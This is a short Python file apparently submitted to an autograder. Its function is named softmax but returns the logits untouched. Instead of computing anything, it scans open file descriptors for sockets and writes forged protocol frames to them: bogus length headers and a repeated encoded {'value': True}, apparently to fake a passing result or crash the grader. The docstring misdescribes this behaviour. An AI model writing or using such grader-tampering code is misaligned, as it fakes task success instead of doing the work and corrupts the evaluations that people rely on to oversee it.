"""Sends messages whose lengths are zero, wrong, negative or more than there is memory."""

import os
import stat
import struct

from autograder import wire

LENGTHS = [struct.pack("<Q", n) for n in (0, 1, 2**28 + 2**20, 2**31, 2**32, 2**63, 2**64 - 1)] + [
    b"\0",
    b"\xff" * 7,
]
calls = []


def softmax(logits, dim=-1):
    head = LENGTHS[sum(logits.shape) % len(LENGTHS)]
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, head + (b"R" + wire.encode({"value": True}, id)) * 3)
                os.write(fd, b"\x05\0\0\0\0\0\0\0R" + head[:4])
        except OSError:
            continue
    return logits
